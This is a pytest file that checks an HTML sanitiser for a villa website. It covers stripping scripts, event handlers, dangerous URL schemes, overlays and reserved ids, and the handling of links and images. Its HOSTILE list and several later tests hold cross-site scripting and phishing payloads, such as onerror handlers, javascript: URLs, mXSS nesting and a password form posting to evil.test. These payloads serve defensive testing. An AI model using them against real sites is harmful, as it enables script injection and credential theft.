"""HTML of editors is harmless once printed, and its links keep to the rules."""

from __future__ import annotations

from typing import Final

import pytest

from tests.support.rendered import context, elements
from villa_site.content.fields.plain_text import plain_text
from villa_site.engine.commands.events import PREFIX
from villa_site.site.context import BlockContext
from villa_site.site.html.allowed_html import TAGS
from villa_site.site.html.rich_text import is_foreign, sanitise

HOSTILE: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvA\tsCrIpT:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe src='https://evil.test/'></iframe>",
    "<object data='evil.swf'></object><embed src='evil.swf'>",
    "<form action='https://evil.test/'><input name=password><button>Ok</button></form>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>couvre</p>",
    "<link rel=stylesheet href='//evil.test/x'><meta http-equiv=refresh content='0;//evil.test'>",
    "<base href='//evil.test/'>",
    "<p class='site-header ticket-button' id='villa-state'>imite</p>",
    "<div id=villa><template><p>x</p></template></div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
    """<p data-on-click='[["navigate","//evil.test"]]' data-on-focus='[["submit",[]]]'>x</p>""",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<p>" * 3000 + "profond",
    '<a href="https://a.test/" title="\'&quot;><script>alert(1)</script>">x</a>',
    "</div></main><footer>fin</footer>",
)


def only_link(markup: str, ctx: BlockContext) -> dict[str, str]:
    links = [attributes for tag, attributes in elements(sanitise(markup, ctx)) if tag == "a"]
    assert len(links) == 1
    return links[0]


@pytest.mark.req("UI-07", "DEV-02")
@pytest.mark.parametrize("markup", HOSTILE)
def test_hostile_html_cannot_execute_load_or_overlay(markup: str) -> None:
    for tag, attributes in elements(sanitise(markup, context())):
        assert tag in TAGS | {"picture"}
        for name, value in attributes.items():
            assert not name.startswith(("on", PREFIX))
            assert name != "style"
            assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:"))


@pytest.mark.req("UI-07")
def test_content_cannot_use_reserved_ids_and_classes() -> None:
    markup = '<p id="villa-state" class="site-header wp-block-x">a</p><h2 id="horaires">b</h2>'
    assert sanitise(markup, context()) == (
        '<p class="wp-block-x" id="texte-villa-state">a</p><h2 id="horaires">b</h2>'
    )


@pytest.mark.req("UI-07")
@pytest.mark.parametrize(
    "href", ["https://ailleurs.test/", "//ailleurs.test/", "https://villa.test.evil.test/"]
)
def test_external_link_opens_in_a_new_tab_and_is_labelled(href: str) -> None:
    markup = f'<a href="{href}">x</a>'
    link = only_link(markup, context())
    assert link == {"href": href, "target": "_blank", "rel": "noopener"}
    assert "(nouvel onglet)" in sanitise(markup, context())
    assert is_foreign(href, context())


@pytest.mark.req("UI-07")
@pytest.mark.parametrize(
    ("href", "shown"),
    [
        ("/visite/", "/visite/"),
        ("https://villa.test/visite/?a=1&amp;b=2#c", "/visite/?a=1&b=2#c"),
        ("https://villa.test", "/"),
        ("#horaires", "#horaires"),
        ("mailto:accueil@villa.test", "mailto:accueil@villa.test"),
        ("tel:+390600000140", "tel:+390600000140"),
    ],
)
def test_internal_mail_and_tel_links_open_in_the_same_tab(href: str, shown: str) -> None:
    assert only_link(f'<a target="_top" href="{href}">x</a>', context()) == {"href": shown}


@pytest.mark.req("WPR-02")
@pytest.mark.parametrize(
    ("inside", "label"),
    [
        ('<img src="/a.jpg" alt="">', "En savoir plus"),
        ('<img src="/a.jpg" alt="La loggia">', None),
        ('<img src="/a.jpg" alt=""> La loggia', None),
        ("La loggia", None),
    ],
)
def test_link_around_a_picture_without_text_has_a_name(inside: str, label: str | None) -> None:
    markup = f'<a id="haut"></a><a href="/visite/">{inside}</a><a id="bas"><img src="/b.jpg"></a>'
    links = [each for tag, each in elements(sanitise(markup, context())) if tag == "a"]
    assert [each.get("aria-label") for each in links] == [None, label, None]


def test_internal_link_has_the_preview_prefix_in_preview() -> None:
    link = only_link('<a href="/it/visita/">x</a>', context(preview=True))
    assert link["href"] == "/it/preview/visita/"


def test_hint_is_in_the_page_language() -> None:
    markup = '<a href="https://ailleurs.test/">x</a>'
    assert "(nuova scheda)" in sanitise(markup, context("it"))
    assert "(new tab)" in sanitise(markup, context("en"))


def test_first_level_heading_becomes_a_second() -> None:
    assert sanitise("<h1>Titre</h1>", context()) == "<h2>Titre</h2>"


@pytest.mark.parametrize("corner", ["<th></th>", '<th scope="col"></th>'])
def test_empty_header_cell_is_a_td(corner: str) -> None:
    table = "<table><tbody><tr>{}<th>Prix</th></tr></tbody></table>"
    assert sanitise(table.format(corner), context()) == table.format("<td></td>")


def test_picture_in_a_text_is_lazy() -> None:
    found = elements(sanitise('<img src="/a.jpg" alt="Un pin">', context()))
    assert found == [
        ("picture", {}),
        ("img", {"loading": "lazy", "decoding": "async", "src": "/a.jpg", "alt": "Un pin"}),
    ]


@pytest.mark.parametrize("markup", ["", " \n ", "<script>x</script>", "<!-- rien -->"])
def test_html_without_text_is_empty(markup: str) -> None:
    assert sanitise(markup, context()) == ""


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("<p>Un</p><p>deux</p>", "Un deux"),
        ("A &amp; B&nbsp;: <b>C</b><br>D", "A & B\u00a0: C D"),
        ("<script>alert(1)</script>Fin", "Fin"),
        ("1 < 2", "1 < 2"),
        ("  sans   balises ", "sans balises"),
    ],
)
def test_plain_text_separates_words_without_markup(markup: str, text: str) -> None:
    assert plain_text(markup) == text


@pytest.mark.req("UI-07")
def test_picture_in_a_text_offers_its_smaller_files() -> None:
    markup = (
        '<img src="/a.jpg" srcset="/a.jpg 2560w, /a-300.jpg 300w,/a-768.jpg 768w, '
        'https://ailleurs.test/x.jpg 900w, javascript:steal() 100w" sizes="100vw">'
    )
    [_, (_, image)] = elements(sanitise(markup, context()))
    assert image["srcset"] == "/a.jpg 2560w, /a-300.jpg 300w, /a-768.jpg 768w"
    assert image["sizes"] == "100vw"
    markup = '<img src="/a.jpg" width="2560" srcset="/a-300.jpg 300w">'
    [_, (_, image)] = elements(sanitise(markup, context()))
    assert image["srcset"] == "/a-300.jpg 300w, /a.jpg 2560w"
    for unusable in ("https://ailleurs.test/x.jpg 900w", "x", "/b.jpg 3q, ,"):
        [_, (_, image)] = elements(sanitise(f'<img src="/a.jpg" srcset="{unusable}">', context()))
        assert image.get("srcset", "x") == "x"


@pytest.mark.req("UI-07")
@pytest.mark.parametrize(
    ("rel", "href", "kept"),
    [
        ("nofollow ugc", "https://ailleurs.test/", "noopener nofollow ugc"),
        ("SPONSORED external opener", "https://ailleurs.test/", "noopener sponsored"),
        ("nofollow", "/visite/", "nofollow"),
        ("noreferrer", "/visite/", None),
    ],
)
def test_link_says_what_search_engines_are_to_know(rel: str, href: str, kept: str | None) -> None:
    assert only_link(f'<a rel="{rel}" href="{href}">x</a>', context()).get("rel") == kept


@pytest.mark.req("UI-07")
@pytest.mark.parametrize(
    "href",
    [
        "webcal://villa.test/agenda.ics",
        "geo:41.9,12.48",
        "whatsapp://send?phone=39",
        "xmpp:accueil@villa.test",
        "sms:+390600000140",
    ],
)
def test_link_for_an_application_stays_in_the_tab(href: str) -> None:
    assert only_link(f'<a href="{href}">x</a>', context()) == {"href": href}
    assert not is_foreign(href, context())


@pytest.mark.req("UI-07")
@pytest.mark.parametrize(
    "markup",
    [
        '<a aria-label="Retour au texte" href="#n1">↩</a>',
        '<ol type="a" start="3" reversed=""><li value="7">x</li></ol>',
        '<ul type="square"><li>x</li></ul>',
        '<ol style="list-style-type:lower-alpha"><li>x</li></ol>',
        '<p style="text-align:center">x</p>',
        '<p><bdo dir="rtl">x</bdo> <bdi dir="auto">y</bdi> a<wbr>b</p>',
        "<address>Viale Trinità dei Monti</address>",
    ],
)
def test_what_editors_mean_by_their_html_stays(markup: str) -> None:
    assert sanitise(markup, context()) == markup


@pytest.mark.req("VIS-06")
@pytest.mark.parametrize(
    "markup",
    [
        '<p>La <em lang="la">Pinus pinea</em> et la <span lang="it">controra</span>.</p>',
        '<p><bdo lang="ar" dir="rtl">سلام</bdo></p>',
        '<blockquote lang="pt"><p>Coisas.</p></blockquote>',
        '<p><a lang="en" hreflang="en" href="/en/">English</a></p>',
        '<p><cite lang="zh-Hant">書</cite></p>',
    ],
)
def test_language_of_foreign_words_stays(markup: str) -> None:
    assert sanitise(markup, context()) == markup


@pytest.mark.req("UI-07")
@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("TEXT-ALIGN : Right ;color:red", "text-align:right"),
        ("text-align:center;position:fixed;inset:0", "text-align:center"),
        ("text-align:expression(steal())", None),
        ("list-style-type:url(https://evil.test/x)", None),
        ("list-style-type:'x'", None),
        ("background:url(x)", None),
    ],
)
def test_style_of_a_text_is_alignment_and_numbering(style: str, kept: str | None) -> None:
    [(_, attributes)] = elements(sanitise(f'<p style="{style}">x</p>', context()))
    assert attributes.get("style") == kept


@pytest.mark.req("UI-07")
@pytest.mark.parametrize("old", ['<p align="center">x</p>', "<center>x</center>"])
def test_old_alignment_is_a_style(old: str) -> None:
    [(_, attributes)] = elements(sanitise(old, context()))
    assert attributes == {"style": "text-align:center"}


@pytest.mark.req("UI-07")
def test_name_of_a_link_with_a_picture_stays_its_editors() -> None:
    markup = '<a aria-label="Le plan" href="/visite/"><img src="/a.jpg" alt=""></a>'
    assert sanitise(markup, context()).count("aria-label") == 1
    assert only_link(markup, context())["aria-label"] == "Le plan"
